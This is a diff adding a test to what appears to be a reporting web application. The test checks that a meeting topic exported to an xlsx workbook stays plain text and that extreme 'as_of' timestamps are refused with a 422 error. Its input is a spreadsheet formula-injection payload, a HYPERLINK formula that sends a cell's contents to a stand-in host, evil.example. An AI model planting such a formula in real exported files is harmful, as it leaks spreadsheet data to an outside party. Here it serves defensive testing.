@@ -162,3 +162,18 @@ def test_monthly_and_quarterly_reports_as_json_and_workbooks(api: Api) -> None:
     assert [row[1] for row in ranking["rows"]] == [OTHER_TOWNSHIP, "银坊镇"]  # 1/1 ranks above 1/2
     problem(api.get("/api/reports/quarterly", "township", quarter="2025-Q1"), 403, "ROLE_FORBIDDEN")
     problem(api.get("/api/reports/monthly", "county", month="2025-Q1"), 422, "PERIOD_INVALID")
+
+
+def test_text_in_a_workbook_is_never_a_formula_and_odd_times_are_refused(api: Api) -> None:
+    topic = '=HYPERLINK("http://evil.example/?"&A1,"点击查看附件")'
+    api.ok("/api/meetings/consultations", {"meeting_id": "HS-2025-02", "occurred_on": "2025-02-20",
+                                           "departments_present": ["乡村振兴局"], "topics": [topic]})
+    api.catch_up()
+    response = api.get("/api/reports/quarterly", "assessment", quarter="2025-Q1", format="xlsx")
+    cell = openpyxl.load_workbook(io.BytesIO(response.content))["会商调度会议"].cell(row=2, column=5)
+    assert (cell.data_type, cell.value) == ("s", topic)
+
+    published = indicators(api, period="2025")
+    for moment in ("0001-01-01T00:00:00+09:00", "9999-12-31T23:00:00-01:00"):
+        problem(api.post("/api/indicators/verify", {**published, "as_of": moment}, "auditor"),
+                422, "AS_OF_RANGE", field="as_of")
